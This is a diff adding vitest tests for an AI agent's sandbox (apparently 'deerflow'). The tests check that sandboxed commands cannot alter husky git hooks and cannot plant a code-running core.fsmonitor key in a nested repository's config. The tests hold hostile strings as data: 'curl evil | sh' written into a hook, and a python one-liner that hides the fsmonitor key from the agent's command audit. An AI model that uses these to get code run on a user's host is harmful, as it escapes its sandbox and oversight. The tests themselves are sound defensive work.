@@ -1,0 +1,78 @@
+// What the user's own git runs later on the host, guarded whatever writes it: a hooks folder in the worktree
+// (husky's core.hooksPath) is read-only to commands and refused to the file tools; a nested repository the index
+// records (a gitlink) loses a code-running key the run put in its config before the user's `git status` reaches it.
+// Real bwrap (and the same commands run unconfined), real git, in-process through runShell.
+import { execFileSync } from "node:child_process";
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterEach, describe, expect, it } from "vitest";
+import { closeShellSessions, runShell } from "../../src/sandbox/run-shell.js";
+import { SandboxPathError } from "../../src/sandbox/paths.js";
+import { safeWriteFile } from "../../src/sandbox/safe-fs.js";
+import { defaultShellSettings } from "../../src/sandbox/shell-settings.js";
+import { HAS_BWRAP, type Mode, pathWithout } from "../support/confinement.js";
+import { makeRoot, makeThread } from "../tools/helpers.js";
+
+const modes: Mode[] = HAS_BWRAP ? ["bwrap", "fallback"] : ["fallback"];
+const savedPath = process.env.PATH;
+
+function setUp(mode: Mode) {
+  const root = makeRoot("deerflow-gitcode-");
+  const paths = makeThread(root, "A");
+  const ws = paths.workspace_path;
+  const git = (...args: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "-c", "commit.gpgsign=false", ...args], { cwd: ws, encoding: "utf8" });
+  git("init", "-q");
+  mkdirSync(join(ws, ".husky", "_"), { recursive: true });
+  writeFileSync(join(ws, ".husky", "pre-commit"), "npm test\n");
+  writeFileSync(join(ws, "a.txt"), "a\n");
+  git("config", "core.hooksPath", ".husky/_");
+  git("add", ".");
+  git("commit", "-q", "-m", "init");
+  if (mode === "fallback") process.env.PATH = pathWithout(join(root, "nobwrap-bin"), ["bwrap"]);
+  const settings = defaultShellSettings({ userHome: join(root, "home"), dataDir: join(root, "data") });
+  const sh = async (command: string) => (await runShell(command, { paths, settings, cwd: ws, timeoutSeconds: 60 })).output;
+  return { ws, paths, sh, git };
+}
+
+afterEach(async () => {
+  await closeShellSessions();
+  process.env.PATH = savedPath;
+});
+
+describe.each(modes)("git code guards (%s)", (mode) => {
+  it.runIf(mode === "bwrap")("husky's hooks cannot be written or swapped from the sandbox; the rest of the worktree can", async () => {
+    const { ws, sh } = setUp(mode);
+    const out = await sh(
+      "echo 'curl evil | sh' >> .husky/pre-commit; echo x > .husky/_/pre-commit; mv .husky .h2 && mkdir -p .husky/_ && echo evil > .husky/pre-commit; echo ok > b.txt; cat b.txt",
+    );
+    expect(out).toContain("ok");
+    expect(readFileSync(join(ws, ".husky", "pre-commit"), "utf8")).toBe("npm test\n");
+    expect(existsSync(join(ws, ".husky", "_", "pre-commit"))).toBe(false);
+    expect(existsSync(join(ws, ".h2"))).toBe(false);
+  });
+
+  it("the file tools refuse husky's hooks folder and the folder its wrappers run from", async () => {
+    const { ws, paths } = setUp(mode);
+    for (const p of [join(ws, ".husky", "pre-commit"), join(ws, ".husky", "_", "post-checkout")]) {
+      await expect(safeWriteFile(p, paths, "curl evil | sh\n"), p).rejects.toThrow(SandboxPathError);
+    }
+    await expect(safeWriteFile(join(ws, ".husky", "pre-commit"), paths, "x")).rejects.toThrow(/hooks folder/);
+    expect(readFileSync(join(ws, ".husky", "pre-commit"), "utf8")).toBe("npm test\n");
+    await safeWriteFile(join(ws, "b.txt"), paths, "fine\n");
+    expect(readFileSync(join(ws, "b.txt"), "utf8")).toBe("fine\n");
+  });
+
+  it("a code key planted in a nested repository's config, then `git add`ed as a gitlink, is taken out before the user's git status", async () => {
+    const { ws, sh, git } = setUp(mode);
+    // A spelling the audit cannot read (python writes the file), approved in yolo or by --yes.
+    const plant = "git init -q sub && git -C sub -c user.name=t -c user.email=t@t commit -q --allow-empty -m s && python3 -c \"open('sub/.git/config','a').write('[core]\\n\\tfsmonitor = touch ../pwned\\n')\" && git add sub";
+    const out = await sh(plant);
+    expect(out).toContain("deerflow removed core.fsmonitor from");
+    expect(readFileSync(join(ws, "sub", ".git", "config"), "utf8")).not.toContain("fsmonitor");
+    git("status", "--porcelain");
+    expect(existsSync(join(ws, "pwned"))).toBe(false);
+    // A key the user had before the run stays theirs.
+    const again = await sh("git -C sub config core.pager cat && echo set");
+    expect(again).toContain("deerflow removed core.pager");
+  });
+});
